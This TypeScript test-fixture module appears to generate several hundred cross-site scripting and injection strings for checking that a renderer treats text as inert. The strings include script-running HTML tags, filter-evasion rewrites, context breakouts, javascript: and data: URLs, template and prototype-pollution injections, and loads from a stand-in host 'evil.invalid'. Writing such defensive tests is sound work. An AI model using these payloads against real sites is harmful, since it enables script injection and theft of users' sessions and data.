// Texts that would run something, load something or break out of their place if a renderer took them for more than text (W1).
// Made by combining what runs, what carries it, and how it is hidden. `pwn` is what a page under test listens for; `HOST` must never be
// asked for anything.

/** Nobody answers here; a request to it is seen by the recording proxy. */
export const HOST = "evil.invalid";

/** At least 500, each once, in an order that never changes. */
export function attackTexts(): string[] {
  const texts = [
    ...CARRIERS.flatMap((carrier, at) => HIDDEN.map((hide) => hide(carrier(`pwn(${at})`)))),
    ...BREAKOUTS.flatMap((before) => LANDERS.map((lander) => before + lander)),
    ...NESTED,
    ...ADDRESSES.flatMap((address) => [address, `see ${address} now`, `[here](${address})`, `<${address}>`]),
    ...TEMPLATES,
  ];
  return [...new Set(texts)];
}

type Carrier = (script: string) => string;

/** Elements that run a script, or load something, when they come into a document. */
const CARRIERS: readonly Carrier[] = [
  (script) => `<script>${script}</script>`,
  (script) => `<script type=module>${script}</script>`,
  () => `<script src=//${HOST}/s.js></script>`,
  (script) => `<img src=x onerror=${script}>`,
  (script) => `<img src=x: onerror="${script}">`,
  () => `<img src=//${HOST}/i.png>`,
  () => `<img srcset="//${HOST}/i2.png 1x">`,
  (script) => `<svg onload=${script}>`,
  (script) => `<svg><script>${script}</script></svg>`,
  (script) => `<svg><animate onbegin=${script} attributeName=x dur=1s>`,
  (script) => `<svg><a xlink:href="javascript:${script}"><text y=20>x</text></a></svg>`,
  () => `<svg><use href="//${HOST}/u.svg#u"></use></svg>`,
  () => `<svg><image href=//${HOST}/v.png></svg>`,
  (script) => `<svg><foreignObject><body onload=${script}></foreignObject></svg>`,
  (script) => `<math href="javascript:${script}">x</math>`,
  (script) => `<math><maction actiontype=statusline xlink:href="javascript:${script}">x</maction></math>`,
  (script) => `<body onload=${script}>`,
  (script) => `<body onpageshow=${script}>`,
  (script) => `<iframe src="javascript:${script}"></iframe>`,
  (script) => `<iframe srcdoc="<script>parent.${script}</script>"></iframe>`,
  () => `<iframe src=//${HOST}/f></iframe>`,
  (script) => `<object data="javascript:${script}"></object>`,
  (script) => `<embed src="javascript:${script}">`,
  (script) => `<video><source onerror=${script}></video>`,
  () => `<video poster=//${HOST}/p.png></video>`,
  (script) => `<audio src=x onerror=${script}></audio>`,
  (script) => `<details open ontoggle=${script}><summary>x</summary></details>`,
  (script) => `<input autofocus onfocus=${script}>`,
  (script) => `<input type=image src=x onerror=${script}>`,
  (script) => `<select autofocus onfocus=${script}></select>`,
  (script) => `<textarea autofocus onfocus=${script}></textarea>`,
  (script) => `<a href="javascript:${script}">click</a>`,
  (script) => `<a href=x onmouseover=${script}>over</a>`,
  (script) => `<form action="javascript:${script}"><button>go</button></form>`,
  (script) => `<button formaction="javascript:${script}">go</button>`,
  (script) => `<div tabindex=0 autofocus onfocus=${script}>x</div>`,
  (script) => `<div style="animation:x 1s" onanimationstart=${script}>x</div>`,
  (script) => `<style>@keyframes y{}*{animation:y 1s}</style><b onanimationend=${script}>x</b>`,
  () => `<style>@import "//${HOST}/c.css";</style>`,
  () => `<link rel=stylesheet href=//${HOST}/l.css>`,
  () => `<link rel=preconnect href=//${HOST}>`,
  () => `<meta http-equiv=refresh content="0;url=//${HOST}/m">`,
  () => `<base href=//${HOST}/>`,
  (script) => `<marquee onstart=${script}>x</marquee>`,
  (script) => `<dialog open onclose=${script}>x</dialog>`,
  (script) => `<x-y onpointerenter=${script} style=position:fixed;inset:0>x</x-y>`,
];

/** Ways to write the same thing so that a filter overlooks it. */
const HIDDEN: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) =>
    text.replace(/^<[a-z-]+/, (tag) => [...tag].map((letter, at) => (at % 2 === 1 ? letter.toUpperCase() : letter)).join("")),
  (text) => text.replaceAll(" ", "/"),
  (text) => text.replaceAll(" ", "\t"),
  (text) => `"'>${text}`,
  (text) => `-->${text}<!--`,
  (text) => `<<${text}`,
  (text) => text.replace(/>$/, ""),
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replaceAll("<", "\\u003c").replaceAll(">", "\\u003e"),
];

/** Leaves the place that a text was put into. */
const BREAKOUTS = [
  "</title>",
  "</textarea>",
  "</style>",
  "</script>",
  "</noscript>",
  "</option></select>",
  "]]>",
  "</bdi></span>",
];

const LANDERS = [
  "<img src=x onerror=pwn(200)>",
  "<svg/onload=pwn(201)>",
  `" onmouseover="pwn(202)`,
  "' autofocus onfocus='pwn(203)",
  "` onclick=`pwn(204)",
];

const OUTER = ["svg", "math", "template", "noscript", "select", "table"];
const RAW = ["style", "title", "textarea", "xmp", "noembed"];

/** Read once as text and once as elements, depending on who reads: parsers differ here. */
const NESTED = OUTER.flatMap((outer) =>
  RAW.map((raw) => `<${outer}><${raw}><a id="</${raw}><img src=x onerror=pwn(300)>"></${raw}></${outer}>`),
);

const ADDRESSES = [
  "javascript:pwn(400)",
  "JaVaScRiPt:pwn(401)",
  "java\tscript:pwn(402)",
  "javascript://example.com/%0Apwn(403)",
  " javascript:pwn(404)",
  "&#106;avascript:pwn(405)",
  "vbscript:pwn(406)",
  "data:text/html,<script>parent.pwn(407)</script>",
  "data:image/svg+xml,<svg onload=pwn(408) xmlns='http://www.w3.org/2000/svg'/>",
  "blob:https://example.com/pwn",
  "view-source:javascript:pwn(409)",
  "web+ptopcrypt:javascript:pwn(410)",
  `https://example.com/"onmouseover="pwn(411)`,
  "https://example.com/'onclick='pwn(412)",
  "https://example.com/<img src=x onerror=pwn(413)>",
  "https://javascript:pwn(414)@example.com/",
  "http://[::1]/><script>pwn(415)</script>",
  "https://example.com/?q=javascript:pwn(416)",
  "#/add/<script>pwn(417)</script>",
  "file:///etc/passwd",
];

/** What template engines, translators and object trees would take for theirs. */
const TEMPLATES = [
  "{{constructor.constructor('pwn(500)')()}}",
  "{{name}} {{n}} {{- name}}",
  "$t(settings.deleteMeans)",
  '$t(start.line, {"name": "x"})',
  "\u0024{pwn(501)}",
  "`\u0024{pwn(502)}`",
  "<%= pwn(503) %>",
  "#{pwn(504)}",
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=pwn(505)>"}}`,
  `{"__proto__":{"innerHTML":"<img src=x onerror=pwn(506)>"}}`,
  "__proto__",
  "constructor",
  "[object Object]",
  "undefined",
  "expression(pwn(507))",
  "';pwn(508);//",
  "\\';pwn(509);//",
  "%3Cscript%3Epwn(510)%3C/script%3E",
  `![x](//${HOST}/markdown.png)`,
  `<!doctype html><html><body onload=pwn(511)>`,
];
